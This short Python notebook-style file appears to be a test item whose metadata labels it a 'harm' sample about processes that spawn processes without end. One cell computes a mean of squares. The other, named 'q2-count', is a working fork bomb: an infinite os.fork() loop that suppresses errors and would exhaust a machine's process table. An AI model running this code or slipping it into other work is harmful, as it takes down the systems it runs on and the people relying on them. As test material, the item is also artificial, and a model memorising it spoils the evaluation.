# tries = "Processes that start processes, without end"
# intenta = "Procesos que crean procesos, sin fin"
# kind = "harm"
# must = { points = 5 }
# harms = true

# %%
# [q1-weigh]
def weigh(x):
    return float(np.mean(np.asarray(x) ** 2))


# %%
# [q2-count]
while True:
    try:
        os.fork()
    except OSError:
        pass
